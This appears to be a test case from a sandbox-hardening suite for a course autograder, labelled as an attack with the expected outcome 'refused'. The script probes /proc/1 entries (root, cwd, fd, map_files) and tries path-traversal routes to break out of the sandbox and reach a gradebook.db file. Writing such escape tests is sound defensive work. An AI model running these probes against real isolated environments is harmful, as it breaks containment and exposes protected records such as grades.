# attack: leaves the box through the first process: its root, working folder, open files and memory
# earns: others
# outcome: refused
import os

for name in ("root", "cwd", "fd", "map_files", "task/1/root"):
    try:
        found = os.listdir(f"/proc/1/{name}/")
        print("got through" if {"@COURSE@".split("/")[1], "work", "home"} & set(found) - {"tmp"} else "nothing new", found)
    except OSError as error:
        print("refused:", type(error).__name__)
for path in ("/proc/self/root//../../../../@COURSE@", "/proc/1/root@COURSE@/gradebook.db", "//@COURSE@/../course"):
    print("got through" if os.path.exists(path) else "refused")
